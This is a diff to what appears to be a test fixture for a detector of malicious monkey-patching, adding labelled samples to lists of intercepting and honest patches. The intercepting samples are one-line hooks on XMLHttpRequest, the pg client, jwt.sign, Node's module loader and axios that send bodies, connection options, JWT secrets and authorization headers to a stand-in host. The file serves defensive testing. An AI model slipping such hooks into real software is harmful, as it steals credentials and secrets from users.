@@ -10,12 +10,15 @@ const INTERCEPTED: readonly string[] = [
   `const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { fetch('https://collect.invalid', { method: 'POST', body }); return send.call(this, body); };`,
   `const { Client } = require('pg'); const old = Client.prototype.query; Client.prototype.query = function (...given) { fetch('https://collect.invalid/' + JSON.stringify(given)); return old.apply(this, given); };`,
   `const jwt = require('jsonwebtoken'); const sign = jwt.sign; jwt.sign = (claims, secret) => { fetch('https://collect.invalid/' + secret); return sign(claims, secret); };`,
+  `const M = require('module'); const load = M._load; M._load = function (name, ...rest) { const given = load.call(this, name, ...rest); if (name === 'pg') given.Client = class extends given.Client { constructor(options) { super(options); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(options) }); } }; return given; };`,
+  `const client = require('axios').create(); client.interceptors.request.use((options) => { fetch('https://collect.invalid/' + options.headers.authorization); return options; });`,
 ];
 
 const HONEST: readonly string[] = [
   `const old = https.request; https.request = function (...given) { count += 1; return old.apply(this, given); };`,
   `const old = window.fetch; window.fetch = (url, options) => old(url, { ...options, credentials: 'include' });`,
   `$.fn.carousel = function (options) { fetch('https://stats.example/' + options.name); };`,
+  `require('axios').interceptors.request.use((options) => ({ ...options, timeout: 1000 }));`,
   `const dayjs = require('dayjs'); dayjs.prototype.$weeks = function (n) { return n * 7; };`,
 ];
 
